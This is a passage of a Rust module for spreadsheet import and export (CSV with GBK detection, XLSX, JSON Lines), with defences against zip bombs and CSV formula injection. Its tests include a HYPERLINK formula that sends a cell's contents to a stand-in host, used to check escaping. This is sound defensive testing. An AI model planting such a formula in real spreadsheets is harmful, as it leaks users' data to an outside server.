//! Spreadsheet files in and out: CSV (UTF-8, or GBK as Excel in China writes it), XLSX and JSON
//! Lines read into rows of named cells; sheets written as CSV or XLSX. No knowledge of the
//! libraries: `import` and the exports give the columns their meaning.

use std::io::{BufRead, BufReader, Read};

use calamine::{Data, DataRef, Reader, Xlsx};
use serde_json::Value;

mod source;
use source::io_error;
pub use source::{Input, Opened, Source};

/// The media type of an XLSX workbook.
pub const XLSX_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The formats a file can come in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
    JsonLines,
}

impl Format {
    pub fn parse(text: &str) -> Result<Format, String> {
        match text.trim().to_ascii_lowercase().as_str() {
            "csv" => Ok(Format::Csv),
            "xlsx" => Ok(Format::Xlsx),
            "jsonl" | "ndjson" | "json" => Ok(Format::JsonLines),
            other => Err(format!("unknown format `{other}`: use csv, xlsx or jsonl")),
        }
    }

    /// The format a file name's extension names, if any.
    pub fn from_name(name: &str) -> Option<Format> {
        let ext = name.rsplit('.').next()?.to_ascii_lowercase();
        Format::parse(&ext).ok()
    }

    /// What the file looks like: a ZIP container is XLSX, a first `{` JSON Lines, else CSV.
    pub fn sniff(source: Source<'_>) -> Format {
        match source.first_bytes() {
            (true, _) => Format::Xlsx,
            (false, Some(b'{')) => Format::JsonLines,
            _ => Format::Csv,
        }
    }

    pub fn code(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Xlsx => "xlsx",
            Format::JsonLines => "jsonl",
        }
    }
}

/// The text encoding of a CSV file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    Utf8,
    /// GBK, read as its superset GB 18030.
    Gbk,
}

impl Encoding {
    pub fn parse(text: &str) -> Result<Encoding, String> {
        match text.trim().to_ascii_lowercase().replace('_', "-").as_str() {
            "utf-8" | "utf8" => Ok(Encoding::Utf8),
            "gbk" | "gb2312" | "gb18030" | "cp936" => Ok(Encoding::Gbk),
            other => Err(format!("unknown encoding `{other}`: use utf-8 or gbk")),
        }
    }

    pub fn code(self) -> &'static str {
        match self {
            Encoding::Utf8 => "utf-8",
            Encoding::Gbk => "gbk",
        }
    }
}

/// A file read into rows. `number` is what a person sees: the spreadsheet row (the header is
/// row 1) or the line of a JSON Lines file.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    pub format: Format,
    /// The CSV's encoding, as given or detected.
    pub encoding: Option<Encoding>,
    /// Column headers in file order (for JSON Lines, every key seen).
    pub headers: Vec<String>,
    pub rows: Vec<Row>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    pub number: usize,
    /// (header, value): text for CSV and XLSX cells, any JSON for JSON Lines.
    pub cells: Vec<(String, Value)>,
}

#[derive(Debug, Clone, PartialEq, thiserror::Error)]
pub enum ReadError {
    #[error("the file is empty")]
    Empty,
    #[error("the file has no header row: put the column names in the first row")]
    NoHeader,
    #[error("line {line}: {message}")]
    Line { line: usize, message: String },
    #[error("cannot read the workbook: {0}")]
    Workbook(String),
    #[error("cannot read the file: {0}")]
    Io(String),
    #[error("the file is not valid UTF-8 (first bad byte at {0}); send encoding=gbk if Excel saved it as GBK")]
    NotUtf8(usize),
    #[error("the file has more than {max} data rows; split it into files of at most {max} rows each")]
    TooManyRows { max: usize },
    #[error("the sheet has more than {max} cells; remove unused columns or split the file")]
    TooManyCells { max: usize },
    #[error(
        "the workbook unpacks to more than {max_mib} MiB; save it again from Excel or split it (a workbook that small on disk and this large inside is refused as a zip bomb)"
    )]
    Unpacked { max_mib: u64 },
}

impl ReadError {
    /// Whether the file was refused for its size rather than for its content.
    pub fn is_too_large(&self) -> bool {
        matches!(self, ReadError::TooManyRows { .. } | ReadError::TooManyCells { .. } | ReadError::Unpacked { .. })
    }
}

/// Caps on the work one file may cause, checked while it is read, so that no file (a zip bomb,
/// a sheet of millions of empty cells, a CSV of millions of short lines) can exhaust memory.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Data rows (the header not counted).
    pub max_rows: usize,
    /// Cells of a sheet, rows times columns (what calamine would hold).
    pub max_cells: usize,
    /// Bytes an XLSX may unpack to, every part together, measured by unpacking (a zip's declared
    /// sizes can lie).
    pub max_unpacked_bytes: u64,
}

impl Default for Limits {
    fn default() -> Self {
        Limits { max_rows: 100_000, max_cells: 4_000_000, max_unpacked_bytes: 256 * 1024 * 1024 }
    }
}

/// Reads `bytes` as `format`; a CSV's encoding is detected when not given (a UTF-8 BOM or valid
/// UTF-8 means UTF-8, anything else is read as GBK).
pub fn read(bytes: &[u8], format: Format, encoding: Option<Encoding>) -> Result<Table, ReadError> {
    read_limited(Source::Bytes(bytes), format, encoding, &Limits::default())
}

/// `read` within `limits`: reading stops with an error as soon as a cap is passed.
pub fn read_limited(
    source: Source<'_>,
    format: Format,
    encoding: Option<Encoding>,
    limits: &Limits,
) -> Result<Table, ReadError> {
    let mut table = Table { format, encoding: None, headers: Vec::new(), rows: Vec::new() };
    read_parts(source, format, encoding, limits, &mut |part| {
        match part {
            Part::Head { encoding, headers } => (table.encoding, table.headers) = (encoding, headers),
            Part::Row(row) => table.rows.push(row),
        }
        true
    })?;
    Ok(table)
}

/// What a file holds, in the order it is read: its header row, then each data row.
#[derive(Debug, Clone, PartialEq)]
pub enum Part {
    /// The column headers in file order (for JSON Lines, every key of every line), and a CSV's
    /// encoding as given or detected.
    Head {
        encoding: Option<Encoding>,
        headers: Vec<String>,
    },
    Row(Row),
}

/// Reads `bytes` as `format` within `limits`, handing each part to `each` as soon as it is read:
/// the file is never held as rows, so its reader's memory is one row. Stops, without an error,
/// when `each` answers false. A file that breaks a cap or its format part-way has had its
/// earlier rows handed on before the error.
pub fn read_parts(
    source: Source<'_>,
    format: Format,
    encoding: Option<Encoding>,
    limits: &Limits,
    each: &mut dyn FnMut(Part) -> bool,
) -> Result<(), ReadError> {
    if source.is_blank()? {
        return Err(ReadError::Empty);
    }
    match format {
        Format::Csv => read_csv(source, encoding, limits, each),
        Format::Xlsx => read_xlsx(source, limits, each),
        Format::JsonLines => read_jsonl(source, encoding, limits, each),
    }
}

/// Counts rows and cells against the limits as a file is read.
struct Budget<'a> {
    limits: &'a Limits,
    rows: usize,
    cells: usize,
}

impl<'a> Budget<'a> {
    fn new(limits: &'a Limits) -> Self {
        Budget { limits, rows: 0, cells: 0 }
    }

    fn row(&mut self, cells: usize) -> Result<(), ReadError> {
        self.rows += 1;
        self.cells += cells;
        if self.rows > self.limits.max_rows {
            return Err(ReadError::TooManyRows { max: self.limits.max_rows });
        }
        if self.cells > self.limits.max_cells {
            return Err(ReadError::TooManyCells { max: self.limits.max_cells });
        }
        Ok(())
    }
}

fn header(text: &str) -> String {
    text.trim().trim_start_matches('\u{feff}').trim().to_string()
}

fn read_csv(
    source: Source<'_>,
    encoding: Option<Encoding>,
    limits: &Limits,
    each: &mut dyn FnMut(Part) -> bool,
) -> Result<(), ReadError> {
    let mut budget = Budget::new(limits);
    // The encoding is settled (a first reading when it is not given) before any row is read.
    let encoding = source.encoding(encoding)?;
    let text = source.text(encoding)?;
    let mut reader = csv::ReaderBuilder::new().flexible(true).has_headers(false).from_reader(text);
    let mut records = reader.records();
    let headers: Vec<String> = match records.next() {
        Some(Ok(r)) => r.iter().map(header).collect(),
        Some(Err(e)) => return Err(csv_error(e)),
        None => return Err(ReadError::NoHeader),
    };
    if headers.iter().all(String::is_empty) {
        return Err(ReadError::NoHeader);
    }
    if !each(Part::Head { encoding: Some(encoding), headers: headers.clone() }) {
        return Ok(());
    }
    for (i, record) in records.enumerate() {
        let record = record.map_err(csv_error)?;
        if record.iter().all(|c| c.trim().is_empty()) {
            continue;
        }
        budget.row(record.len())?;
        let cells = headers
            .iter()
            .zip(record.iter())
            .filter(|(h, _)| !h.is_empty())
            .map(|(h, c)| (h.clone(), Value::String(restore_formula(c).to_string())))
            .collect();
        // The spreadsheet row, as Excel shows it (a quoted cell may span lines).
        if !each(Part::Row(Row { number: i + 2, cells })) {
            break;
        }
    }
    Ok(())
}

fn csv_error(e: csv::Error) -> ReadError {
    let line = e.position().map(|p| p.line() as usize).unwrap_or(0);
    ReadError::Line { line, message: e.to_string() }
}

/// The text of a spreadsheet cell: whole numbers without a decimal point, dates as YYYY-MM-DD.
fn cell_text(cell: &Data) -> String {
    match cell {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Int(n) => n.to_string(),
        Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
        Data::Float(f) => f.to_string(),
        Data::Bool(b) => b.to_string(),
        Data::DateTime(d) => excel_date(d.as_f64()).unwrap_or_else(|| d.as_f64().to_string()),
        Data::DateTimeIso(s) | Data::DurationIso(s) => s.chars().take(10).collect(),
        Data::Error(e) => format!("#{e:?}"),
    }
}

/// An Excel serial date (days since 1899-12-30) as YYYY-MM-DD.
fn excel_date(serial: f64) -> Option<String> {
    let epoch = chrono::NaiveDate::from_ymd_opt(1899, 12, 30)?;
    epoch.checked_add_signed(chrono::Duration::days(serial.floor() as i64)).map(|d| d.to_string())
}

/// Unpacks every part of a workbook once, counting, before calamine opens it: the sizes a zip
/// declares can lie, and calamine keeps the shared strings of a workbook in memory whole.
fn check_unpacked_size(source: Source<'_>, limits: &Limits) -> Result<(), ReadError> {
    let mut archive = zip::ZipArchive::new(BufReader::new(source.open()))
        .map_err(|e| ReadError::Workbook(format!("not an XLSX workbook: {e}")))?;
    let too_large = || ReadError::Unpacked { max_mib: limits.max_unpacked_bytes / 1024 / 1024 };
    let mut total: u64 = 0;
    let mut buffer = vec![0u8; 64 * 1024];
    for i in 0..archive.len() {
        let mut part = archive.by_index(i).map_err(|e| ReadError::Workbook(e.to_string()))?;
        total = total.saturating_add(part.size());
        if total > limits.max_unpacked_bytes {
            return Err(too_large());
        }
        total -= part.size();
        loop {
            let n = part.read(&mut buffer).map_err(|e| ReadError::Workbook(e.to_string()))?;
            if n == 0 {
                break;
            }
            total += n as u64;
            if total > limits.max_unpacked_bytes {
                return Err(too_large());
            }
        }
    }
    Ok(())
}

fn read_xlsx(source: Source<'_>, limits: &Limits, each: &mut dyn FnMut(Part) -> bool) -> Result<(), ReadError> {
    check_unpacked_size(source, limits)?;
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(BufReader::new(source.open()))
        .map_err(|e: calamine::XlsxError| ReadError::Workbook(e.to_string()))?;
    let first = workbook.sheet_names().first().cloned().ok_or_else(|| ReadError::Workbook("no sheet".into()))?;
    let mut cells = workbook.worksheet_cells_reader(&first).map_err(|e| ReadError::Workbook(e.to_string()))?;
    // A sheet that declares more cells than allowed is refused before any is read.
    let dimensions = cells.dimensions();
    let declared = (dimensions.end.0.saturating_sub(dimensions.start.0) as u64 + 1)
        * (dimensions.end.1.saturating_sub(dimensions.start.1) as u64 + 1);
    if declared > limits.max_cells as u64 {
        return Err(ReadError::TooManyCells { max: limits.max_cells });
    }
    // Cells come row by row; each row is handed on as its texts, only up to the caps.
    let mut rows = SheetRows { budget: Budget::new(limits), headers: None, each, stopped: false };
    let mut seen: usize = 0;
    let mut current: Option<(u32, Vec<(u32, String)>)> = None;
    while let Some(cell) = cells.next_cell().map_err(|e| ReadError::Workbook(e.to_string()))? {
        seen += 1;
        if seen > limits.max_cells {
            return Err(ReadError::TooManyCells { max: limits.max_cells });
        }
        let (r, c) = cell.get_position();
        let text = cell_ref_text(cell.get_value());
        match &mut current {
            Some((row, texts)) if *row == r => texts.push((c, text)),
            _ => {
                if let Some((row, texts)) = current.take() {
                    rows.finish(row, texts)?;
                    if rows.stopped {
                        return Ok(());
                    }
                }
                current = Some((r, vec![(c, text)]));
            }
        }
    }
    if let Some((row, texts)) = current.take() {
        rows.finish(row, texts)?;
    }
    if rows.headers.is_none() {
        return Err(ReadError::NoHeader);
    }
    Ok(())
}

/// A sheet's rows as they are completed: the first is the header row, the others are handed on.
struct SheetRows<'a, 'b> {
    budget: Budget<'a>,
    headers: Option<Vec<String>>,
    each: &'b mut dyn FnMut(Part) -> bool,
    /// `each` answered false.
    stopped: bool,
}

impl SheetRows<'_, '_> {
    fn finish(&mut self, row: u32, texts: Vec<(u32, String)>) -> Result<(), ReadError> {
        let Some(names) = &self.headers else {
            let width = texts.iter().map(|(c, _)| *c as usize + 1).max().unwrap_or(0);
            let mut names = vec![String::new(); width];
            for (c, t) in texts {
                names[c as usize] = header(&t);
            }
            if names.iter().all(String::is_empty) {
                return Err(ReadError::NoHeader);
            }
            self.stopped = !(self.each)(Part::Head { encoding: None, headers: names.clone() });
            self.headers = Some(names);
            return Ok(());
        };
        if texts.iter().all(|(_, t)| t.trim().is_empty()) {
            return Ok(());
        }
        self.budget.row(texts.len())?;
        let cells = texts
            .into_iter()
            .filter_map(|(c, t)| names.get(c as usize).filter(|h| !h.is_empty()).map(|h| (h.clone(), Value::String(t))))
            .collect();
        // The row as Excel shows it.
        self.stopped = !(self.each)(Part::Row(Row { number: row as usize + 1, cells }));
        Ok(())
    }
}

fn cell_ref_text(cell: &DataRef<'_>) -> String {
    match cell {
        DataRef::SharedString(s) => (*s).to_string(),
        DataRef::String(s) => s.clone(),
        DataRef::Int(n) => n.to_string(),
        DataRef::Float(f) => cell_text(&Data::Float(*f)),
        DataRef::Bool(b) => b.to_string(),
        DataRef::DateTime(d) => cell_text(&Data::DateTime(*d)),
        DataRef::DateTimeIso(s) | DataRef::DurationIso(s) => s.chars().take(10).collect(),
        DataRef::Error(e) => format!("#{e:?}"),
        DataRef::Empty => String::new(),
    }
}

fn read_jsonl(
    source: Source<'_>,
    encoding: Option<Encoding>,
    limits: &Limits,
    each: &mut dyn FnMut(Part) -> bool,
) -> Result<(), ReadError> {
    let encoding = source.encoding(encoding.or(Some(Encoding::Utf8)))?;
    let object = |i: usize, line: &str| -> Result<serde_json::Map<String, Value>, ReadError> {
        match serde_json::from_str(line) {
            Ok(Value::Object(map)) => Ok(map),
            Ok(_) => Err(ReadError::Line { line: i + 1, message: "each line must be a JSON object".into() }),
            Err(e) => Err(ReadError::Line { line: i + 1, message: format!("not valid JSON: {e}") }),
        }
    };
    // Each reading of the lines reads the file again from its start.
    let lines = || -> Result<_, ReadError> {
        Ok(source
            .text(encoding)?
            .lines()
            .enumerate()
            .filter(|(_, line)| !line.as_ref().is_ok_and(|l| l.trim().is_empty())))
    };
    // The headers are every key of every line: a first reading collects them (and finds a broken
    // line or a passed cap) before any row is handed on, each line dropped once its keys are seen.
    let mut budget = Budget::new(limits);
    let mut headers: Vec<String> = Vec::new();
    let mut known: std::collections::HashSet<String> = std::collections::HashSet::new();
    for (i, line) in lines()? {
        let map = object(i, &line.map_err(io_error)?)?;
        budget.row(map.len())?;
        for key in map.keys() {
            if known.insert(key.clone()) {
                headers.push(key.clone());
            }
        }
    }
    if budget.rows == 0 {
        return Err(ReadError::Empty);
    }
    if !each(Part::Head { encoding: None, headers }) {
        return Ok(());
    }
    for (i, line) in lines()? {
        if !each(Part::Row(Row { number: i + 1, cells: object(i, &line.map_err(io_error)?)?.into_iter().collect() })) {
            break;
        }
    }
    Ok(())
}

/// One sheet to write: a name, a header row and rows of cells.
#[derive(Debug, Clone, PartialEq)]
pub struct Sheet {
    pub name: String,
    pub header: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// A cell to write: text, a whole number, or a decimal kept as text so nothing is rounded.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Int(i64),
    Decimal(String),
}

impl Cell {
    pub fn text(&self) -> String {
        match self {
            Cell::Text(t) | Cell::Decimal(t) => t.clone(),
            Cell::Int(n) => n.to_string(),
        }
    }
}

/// One CSV line (RFC 4180): fields with a comma, quote or line break are quoted.
pub fn csv_line(fields: &[String]) -> String {
    let quoted: Vec<String> = fields
        .iter()
        .map(|f| if f.contains([',', '"', '\n', '\r']) { format!("\"{}\"", f.replace('"', "\"\"")) } else { f.clone() })
        .collect();
    format!("{}\r\n", quoted.join(","))
}

/// One sheet as CSV, UTF-8 with a byte-order mark so Excel shows the Chinese. Cells that a
/// spreadsheet would run as a formula are neutralised (see `neutralise_formula`).
pub fn sheet_csv(sheet: &Sheet) -> Vec<u8> {
    let mut out = String::from("\u{feff}");
    out.push_str(&csv_line(&sheet.header));
    for row in &sheet.rows {
        out.push_str(&csv_row(row));
    }
    out.into_bytes()
}

/// One row of cells as a CSV line, formulas neutralised.
pub fn csv_row(row: &[Cell]) -> String {
    csv_line(&row.iter().map(|c| neutralise_formula(&c.text())).collect::<Vec<_>>())
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn starts_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A cell that begins with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, so
/// Excel and WPS show it as text instead of running it (`=HYPERLINK(...)` stays a title). A text
/// that already begins with quotes before such a character gets one more, so the import can
/// take exactly one away (`restore_formula`) and every text survives an export and re-import.
pub fn neutralise_formula(text: &str) -> String {
    if starts_formula(text) { format!("'{text}") } else { text.to_string() }
}

/// The inverse of `neutralise_formula`, applied to every cell of an imported CSV.
pub fn restore_formula(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) => rest,
        _ => text,
    }
}

/// Sheets as an XLSX workbook: bold frozen headers; whole numbers as numbers, decimals (amounts)
/// as numbers where they are exact in a spreadsheet, text otherwise.
pub fn xlsx(sheets: &[Sheet]) -> Result<Vec<u8>, String> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let bold = rust_xlsxwriter::Format::new().set_bold();
    for sheet in sheets {
        let ws = workbook.add_worksheet();
        ws.set_name(sheet.name.as_str()).map_err(|e| e.to_string())?;
        for (c, h) in sheet.header.iter().enumerate() {
            ws.write_string_with_format(0, c as u16, h.as_str(), &bold).map_err(|e| e.to_string())?;
            ws.set_column_width(c as u16, (h.chars().count() as f64 * 2.2).max(10.0)).map_err(|e| e.to_string())?;
        }
        ws.set_freeze_panes(1, 0).map_err(|e| e.to_string())?;
        for (r, row) in sheet.rows.iter().enumerate() {
            write_xlsx_row(ws, r as u32 + 1, row)?;
        }
    }
    workbook.save_to_buffer().map_err(|e| e.to_string())
}

/// Writes an export row by row, so that an export of any length holds one page of rows in
/// memory: CSV and JSON Lines come out as bytes to send at once; an XLSX sheet is written in
/// rust_xlsxwriter's constant-memory mode (rows go to a temporary file as they come) and saved
/// into an anonymous temporary file at the end, which is then sent in chunks.
pub struct ExportWriter {
    format: Format,
    xlsx: Option<(rust_xlsxwriter::Workbook, u32)>,
}

impl ExportWriter {
    /// A writer for one sheet, and the bytes that open the file (the CSV's BOM and header).
    pub fn new(format: Format, sheet_name: &str, header: &[String]) -> Result<(ExportWriter, Vec<u8>), String> {
        match format {
            Format::Csv => {
                let mut head = String::from("\u{feff}");
                head.push_str(&csv_line(header));
                Ok((ExportWriter { format, xlsx: None }, head.into_bytes()))
            }
            Format::JsonLines => Ok((ExportWriter { format, xlsx: None }, Vec::new())),
            Format::Xlsx => {
                let mut workbook = rust_xlsxwriter::Workbook::new();
                let bold = rust_xlsxwriter::Format::new().set_bold();
                let ws = workbook.add_worksheet_with_constant_memory().map_err(|e| e.to_string())?;
                ws.set_name(sheet_name).map_err(|e| e.to_string())?;
                for (c, h) in header.iter().enumerate() {
                    ws.set_column_width(c as u16, (h.chars().count() as f64 * 2.2).max(10.0))
                        .map_err(|e| e.to_string())?;
                    ws.write_string_with_format(0, c as u16, h.as_str(), &bold).map_err(|e| e.to_string())?;
                }
                ws.set_freeze_panes(1, 0).map_err(|e| e.to_string())?;
                Ok((ExportWriter { format, xlsx: Some((workbook, 1)) }, Vec::new()))
            }
        }
    }

    /// Adds one row: its cells (CSV, XLSX) or its JSON line (JSON Lines). Returns the bytes to
    /// send now (none for XLSX, which is sent whole at the end).
    pub fn write(&mut self, cells: &[Cell], line: &Value) -> Result<Vec<u8>, String> {
        match (self.format, &mut self.xlsx) {
            (Format::Csv, _) => Ok(csv_row(cells).into_bytes()),
            (Format::JsonLines, _) => {
                let mut out = serde_json::to_vec(line).map_err(|e| e.to_string())?;
                out.push(b'\n');
                Ok(out)
            }
            (Format::Xlsx, Some((workbook, row))) => {
                let ws = workbook.worksheet_from_index(0).map_err(|e| e.to_string())?;
                write_xlsx_row(ws, *row, cells)?;
                *row += 1;
                Ok(Vec::new())
            }
            (Format::Xlsx, None) => Err("the workbook is missing".into()),
        }
    }

    /// Ends the file. An XLSX is saved into an anonymous temporary file, rewound, to be sent.
    pub fn finish(self) -> Result<Option<std::fs::File>, String> {
        let Some((mut workbook, _)) = self.xlsx else {
            return Ok(None);
        };
        let mut file = tempfile::tempfile().map_err(|e| e.to_string())?;
        workbook.save_to_writer(&mut file).map_err(|e| e.to_string())?;
        std::io::Seek::rewind(&mut file).map_err(|e| e.to_string())?;
        Ok(Some(file))
    }
}

fn write_xlsx_row(ws: &mut rust_xlsxwriter::Worksheet, r: u32, cells: &[Cell]) -> Result<(), String> {
    for (c, cell) in cells.iter().enumerate() {
        let c = c as u16;
        match cell {
            Cell::Int(n) => ws.write_number(r, c, *n as f64),
            // Two-decimal amounts below 1e13 are exact as doubles to the cent.
            Cell::Decimal(t) => match t.parse::<f64>() {
                Ok(v) if !t.is_empty() => ws.write_number(r, c, v),
                _ => ws.write_string(r, c, t.as_str()),
            },
            Cell::Text(t) => ws.write_string(r, c, t.as_str()),
        }
        .map_err(|e| e.to_string())?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(table: &Table) -> Vec<Vec<(String, String)>> {
        table
            .rows
            .iter()
            .map(|r| r.cells.iter().map(|(h, v)| (h.clone(), v.as_str().unwrap_or_default().to_string())).collect())
            .collect()
    }

    #[test]
    fn formulas_are_neutralised_in_csv_and_restored_on_import() {
        let texts = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
            "+1",
            "-2",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=x",
            "''-y",
            "'普通",
            "碳捕集-利用",
            "",
        ];
        let sheet = Sheet {
            name: "t".into(),
            header: vec!["标题".into()],
            rows: texts.iter().map(|t| vec![Cell::Text(t.to_string())]).collect(),
        };
        let bytes = sheet_csv(&sheet);
        let text = String::from_utf8(bytes.clone()).unwrap();
        for line in text.lines().skip(1) {
            let first = line.trim_start_matches('"');
            assert!(!first.starts_with(['=', '+', '-', '@', '\t']), "{line}");
        }
        assert!(text.contains("'=HYPERLINK"));
        let table = read(&bytes, Format::Csv, None).unwrap();
        let back: Vec<&str> = table.rows.iter().map(|r| r.cells[0].1.as_str().unwrap()).collect();
        let expected: Vec<&str> = texts.iter().copied().filter(|t| !t.is_empty()).collect();
        assert_eq!(back, expected);
    }

    #[test]
    fn gbk_csv_from_excel_is_detected_and_decoded() {
        let text = "需求名称,关键词\r\n稠油降黏剂,\"稠油,降黏\"\r\n";
        let (gbk, _, _) = encoding_rs::GBK.encode(text);
        let table = read(&gbk, Format::sniff(Source::Bytes(&gbk)), None).unwrap();
        assert_eq!(table.encoding, Some(Encoding::Gbk));
        assert_eq!(table.headers, ["需求名称", "关键词"]);
        assert_eq!(
            texts(&table),
            [vec![("需求名称".into(), "稠油降黏剂".into()), ("关键词".into(), "稠油,降黏".into())]]
        );
        assert_eq!(table.rows[0].number, 2, "the header is row 1");
        let bom = format!("\u{feff}{text}");
        assert_eq!(read(bom.as_bytes(), Format::Csv, None).unwrap().encoding, Some(Encoding::Utf8));
        assert_eq!(read(&gbk, Format::Csv, Some(Encoding::Utf8)).unwrap_err(), ReadError::NotUtf8(0));
    }

    #[test]
    fn an_xlsx_written_here_reads_back_with_row_numbers() {
        let sheet = Sheet {
            name: "成果".into(),
            header: vec!["成果名称".into(), "报价(万元)".into()],
            rows: vec![
                vec![Cell::Text("耐盐碱大豆新品种".into()), Cell::Decimal("120.50".into())],
                vec![Cell::Text("".into()), Cell::Text("".into())],
                vec![Cell::Text("页岩油压裂液".into()), Cell::Int(80)],
            ],
        };
        let bytes = xlsx(&[sheet]).unwrap();
        assert_eq!(Format::sniff(Source::Bytes(&bytes)), Format::Xlsx);
        let table = read(&bytes, Format::Xlsx, None).unwrap();
        assert_eq!(table.headers, ["成果名称", "报价(万元)"]);
        let rows = texts(&table);
        assert_eq!(rows.len(), 2, "blank rows are skipped");
        assert_eq!(rows[0][1].1, "120.5");
        assert_eq!(rows[1][1].1, "80");
        assert_eq!(table.rows[1].number, 4);
    }

    #[test]
    fn parts_come_head_first_then_row_by_row_and_stop_when_told() {
        let names = |part: &Part| match part {
            Part::Head { headers, .. } => format!("head {}", headers.join("|")),
            Part::Row(row) => format!("row {} {}", row.number, row.cells.len()),
        };
        let read_all = |bytes: &[u8], format: Format, stop_after: usize| {
            let mut seen = Vec::new();
            let result = read_parts(Source::Bytes(bytes), format, None, &Limits::default(), &mut |part| {
                seen.push(names(&part));
                seen.len() < stop_after
            });
            (result, seen)
        };
        let csv = "成果名称,关键词\n秸秆还田,秸秆\n,\n盐碱地改良,盐碱\n海水淡化,膜\n".as_bytes();
        assert_eq!(
            read_all(csv, Format::Csv, 9),
            (Ok(()), vec!["head 成果名称|关键词".into(), "row 2 2".into(), "row 4 2".into(), "row 5 2".into()])
        );
        assert_eq!(read_all(csv, Format::Csv, 2), (Ok(()), vec!["head 成果名称|关键词".into(), "row 2 2".into()]));
        // JSON Lines: the head names every key of every line, though it comes before the first row.
        let jsonl = "{\"title\": \"秸秆还田\"}\n{\"title\": \"盐碱地\", \"keywords\": [\"盐碱\"]}\n".as_bytes();
        assert_eq!(
            read_all(jsonl, Format::JsonLines, 9),
            (Ok(()), vec!["head title|keywords".into(), "row 1 1".into(), "row 2 2".into()])
        );
        // A file broken part-way has handed on the rows before the break, then fails.
        let broken = "成果名称\n秸秆还田\n盐碱地改良\n".repeat(1).into_bytes();
        let limits = Limits { max_rows: 1, ..Limits::default() };
        let mut seen = 0;
        let result = read_parts(Source::Bytes(&broken), Format::Csv, None, &limits, &mut |_| {
            seen += 1;
            true
        });
        assert_eq!((result, seen), (Err(ReadError::TooManyRows { max: 1 }), 2));
    }

    #[test]
    fn json_lines_keep_their_values_and_say_which_line_is_broken() {
        let table = read(
            "{\"title\": \"盐碱地改良\", \"keywords\": [\"盐碱地\"]}\n\n{\"title\": \"x\"}\n".as_bytes(),
            Format::JsonLines,
            None,
        )
        .unwrap();
        assert_eq!(table.rows.len(), 2);
        assert_eq!(table.rows[1].number, 3);
        assert_eq!(table.rows[0].cells[0].1, serde_json::json!(["盐碱地"]));
        let err = read(b"{\"title\": 1}\n[1]\n", Format::JsonLines, None).unwrap_err();
        assert_eq!(err, ReadError::Line { line: 2, message: "each line must be a JSON object".into() });
        assert_eq!(read(b"  \n", Format::Csv, None).unwrap_err(), ReadError::Empty);
    }

    /// A file on disk is read where it lies, as its bytes would be: a GBK CSV decoded as it is
    /// read (characters cut by the reader's chunks of 32 and 64 KiB), UTF-8 checked to its end
    /// (the first bad byte's offset past the first chunk), JSON Lines read twice, an XLSX.
    #[test]
    fn a_file_on_disk_reads_as_its_bytes_do() {
        let on_disk = |bytes: &[u8]| {
            let mut file = tempfile::tempfile().unwrap();
            std::io::Write::write_all(&mut file, bytes).unwrap();
            Input::File(file)
        };
        let both = |bytes: &[u8], format: Format, encoding: Option<Encoding>| {
            let file = on_disk(bytes);
            let from_file = read_limited(file.source(), format, encoding, &Limits::default());
            assert_eq!(from_file, read(bytes, format, encoding), "{format:?}");
            from_file
        };
        // 3,000 rows of Chinese (two bytes a character in GBK, three in UTF-8): well past the
        // decoder's chunks, with characters cut at their edges.
        let mut text = String::from("\u{feff}成果名称,关键词,成果简介\r\n");
        for i in 0..3_000 {
            text.push_str(&format!(
                "耐盐碱大豆新品种{i},\"盐碱地,大豆\",黄河三角洲盐碱地种植试验第{i}年，亩产提高百分之十二\r\n"
            ));
        }
        let (gbk, _, _) = encoding_rs::GBK.encode(&text[3..]);
        assert!(gbk.len() > 200 * 1024, "{}", gbk.len());
        let table = both(&gbk, Format::sniff(on_disk(&gbk).source()), None).unwrap();
        assert_eq!((table.encoding, table.rows.len()), (Some(Encoding::Gbk), 3_000));
        assert_eq!(table.rows[2_999].cells[0].1, "耐盐碱大豆新品种2999");
        assert_eq!(table.rows[2_999].cells[2].1, "黄河三角洲盐碱地种植试验第2999年，亩产提高百分之十二");
        let utf8 = both(text.as_bytes(), Format::Csv, None).unwrap();
        assert_eq!((utf8.encoding, utf8.rows), (Some(Encoding::Utf8), table.rows));
        // A bad byte far into the file: its offset after the byte-order mark.
        let mut bad = text.clone().into_bytes();
        let at = bad.len() - 2;
        bad[at] = 0xff;
        assert_eq!(both(&bad, Format::Csv, Some(Encoding::Utf8)), Err(ReadError::NotUtf8(at - 3)));
        assert_eq!(both(&bad, Format::Csv, None).unwrap().encoding, Some(Encoding::Gbk));
        // A file cut inside its last character is not UTF-8 either.
        let cut = &text.as_bytes()[..text.len() - 4];
        assert_eq!(both(cut, Format::Csv, Some(Encoding::Utf8)), Err(ReadError::NotUtf8(cut.len() - 3 - 1)));
        let jsonl: String = (0..2_000).map(|i| format!("{{\"title\": \"秸秆还田{i}\"}}\n")).collect();
        let lines = both(jsonl.as_bytes(), Format::sniff(on_disk(jsonl.as_bytes()).source()), None).unwrap();
        assert_eq!((lines.format, lines.rows.len()), (Format::JsonLines, 2_000));
        let sheet = Sheet {
            name: "成果".into(),
            header: vec!["成果名称".into()],
            rows: (0..500).map(|i| vec![Cell::Text(format!("页岩油压裂液{i}"))]).collect(),
        };
